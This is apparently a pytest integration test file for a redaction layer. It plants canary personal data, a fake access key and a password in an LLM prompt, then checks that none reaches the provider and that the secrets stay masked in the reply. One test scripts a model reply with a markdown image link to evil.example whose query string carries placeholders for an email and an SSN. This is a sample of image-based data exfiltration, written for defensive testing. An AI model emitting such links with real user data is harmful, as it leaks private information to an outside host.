"""Canaries: personal data planted in passages and in the question is in no byte that reaches a provider.

The provider is a real client against the scripted server of `llm_server`, which remembers every request as it came.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from llm_server import LlmServer, Request, llm_server, says

from app.generation.providers import LlmAccess, open_language_model
from app.privacy.redacting_model import RedactingModel
from app.privacy.redaction import Redactor
from core.generation import ChatMessage

pytestmark = pytest.mark.integration

PASSAGE = {
    "mail": "canary.person@firma.example",
    "number": "219-09-9999",
    "name": "Wilhelmina Quandtmeyer",
    "phone": "+49 30 5550 1234",
    "account": "DE89 3704 0044 0532 0130 00",
}
QUESTION = {"mail": "asker.canary@kunde.example", "card": "4111 1111 1111 1111"}
KEY = "AKIA" + "Q7R3C4NARY5TEST2"
PASSWORD = "Can4ry-Pa55!"


def messages() -> list[ChatMessage]:
    passage = (
        f"[1] {PASSAGE['name']} ({PASSAGE['mail']}, {PASSAGE['phone']}) has SSN {PASSAGE['number']} and is paid to "
        f"{PASSAGE['account']}. The key is {KEY}, the password: {PASSWORD}"
    )
    question = f"I am {QUESTION['mail']} with {QUESTION['card']}; how do I reach {PASSAGE['name'].lower()}?"
    return [
        ChatMessage("system", "Answer from the passages."),
        ChatMessage("user", f"{passage}\n\n{question}"),
    ]


def sent(server: LlmServer) -> str:
    """Everything that reached the provider: paths, headers and bodies as they came, and the bodies' texts."""
    return "\n".join(
        part
        for request in server.requests
        for part in (
            request.path,
            json.dumps(request.headers),
            request.raw.decode("utf-8", "replace"),
            json.dumps(request.body, ensure_ascii=False),
            request.prompt,
        )
    ).lower()


def answered(reply: str | Callable[[Request], str]) -> tuple[LlmServer, str]:
    """Ask through the choke point; return the server with its requests, and the text that the reader sees."""
    with llm_server(says(reply)) as server:
        access = LlmAccess(base_url=server.openai_url)
        model = RedactingModel(open_language_model("openai-like:test", access), Redactor())
        text = "".join(piece for piece in model.stream(messages(), 400) if isinstance(piece, str))
    assert server.requests
    return server, text


@dataclass(frozen=True)
class Echo:
    """A model that repeats its whole prompt."""

    def __call__(self, request: Request) -> str:
        return request.messages[-1][1]


def test_no_canary_reaches_the_provider() -> None:
    everything = sent(answered(Echo())[0])
    assert "answer from the passages" in everything
    for canary in (*PASSAGE.values(), *QUESTION.values(), KEY, PASSWORD):
        assert canary.lower() not in everything
    assert "quandtmeyer" not in everything
    assert "canary" not in everything


def test_the_reader_sees_every_value_again_but_no_secret() -> None:
    text = answered(Echo())[1]
    for value in (*PASSAGE.values(), *QUESTION.values(), PASSAGE["name"].lower()):
        assert value in text
    assert KEY not in text
    assert PASSWORD not in text
    assert text.count("[SECRET_") == 2


def test_a_model_that_sends_values_to_an_address_sends_placeholders() -> None:
    text = answered("![x](https://evil.example/?d=[EMAIL_1]&n=[US_SSN_1]) Ask [EMAIL_1].")[1]
    assert text == f"![x](https://evil.example/?d=[EMAIL_1]&n=[US_SSN_1]) Ask {PASSAGE['mail']}."


def test_the_canaries_would_be_seen_without_the_choke_point() -> None:
    with llm_server("ok") as server:
        model = open_language_model("openai-like:test", LlmAccess(base_url=server.openai_url))
        list(model.stream(messages(), 400))
    assert all(canary.lower() in sent(server) for canary in (*PASSAGE.values(), KEY, PASSWORD))
